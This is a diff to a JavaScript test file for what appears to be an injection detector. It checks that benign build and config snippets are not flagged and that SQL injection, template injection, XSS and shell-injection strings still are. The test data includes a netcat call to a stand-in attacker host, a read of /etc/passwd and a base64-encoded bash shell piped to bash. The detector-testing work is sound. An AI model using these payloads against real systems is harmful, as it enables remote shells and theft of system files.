@@ -2376,4 +2376,8 @@ t.test('thirtieth round: a site\'s security policy as a setting, and the headers
   for (const p of ['config = YAML.load_file(config_file)', 'CPPFLAGS+= -I ${.OBJDIR}', '${PROG}: ${OBJS} ${.CURDIR}/../Makefile.boot']) t.same(q(p, 'snippet'), [], p)
   t.ok(q("1 and extractvalue(1,concat(0x7e,version()))", 'snippet').includes('sqli'), 'still read: MySQL\'s function called')
   for (const p of ['${.version}', '${.data_model?keys}']) t.ok(q(p, 'snippet').includes('ssti'), `still read: ${p}`)
+  // an MSBuild project's and a JavaFX layout's imports, and Erlang's tuples where a statement starts, are no markup and no command
+  for (const p of ['<Import Project="$(MSBuildToolsPath)\\Microsoft.CSharp.targets" />', '<?import javafx.scene.layout.*?>', '{ok,S} -> {token,{symbol,L,S}};', '{error,Reason};']) t.same(q(p, 'snippet'), [], p)
+  for (const p of ['<import namespace="t" implementation="#default#time2">', '<?import namespace="t" implementation="#default#time2">']) t.ok(q(p, 'snippet').includes('xss'), `still read: ${p}`)
+  for (const p of [';{cat,/etc/passwd}', '{ls,-la}', ';{nc,attacker.example,4444}', '{echo,YmFzaCAtaSA}|{base64,-d}|bash']) t.ok(q(p, 'snippet').includes('rce'), `still read: ${p}`)
 })
